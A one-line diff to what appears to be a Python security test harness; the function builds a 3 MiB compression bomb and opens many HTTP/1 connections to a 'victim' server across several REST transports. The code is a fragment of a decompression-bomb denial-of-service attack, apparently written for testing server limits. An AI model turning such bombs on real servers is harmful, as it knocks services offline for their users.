@@ -239,7 +239,7 @@ def large_window_that_is_used(victim, transport):
     before = stream_body(PING_PROTO) if transport == "rest-stream-proto" else PING
     before = b"[" + before if transport == "rest-array" else before
     nothing = b"\x7a\x00" if transport == "rest-stream-proto" else b" "
-    start = bomb(encoding, nothing, 3 * MIB, before=before)[:-2]
+    start = bomb(encoding, nothing, 3 * MIB, before=before, whole=False)
     request, plugs = head(transport, BATCH, encoding), []
     for _ in range(OPEN):
         plug = http1.connect(victim.addr)
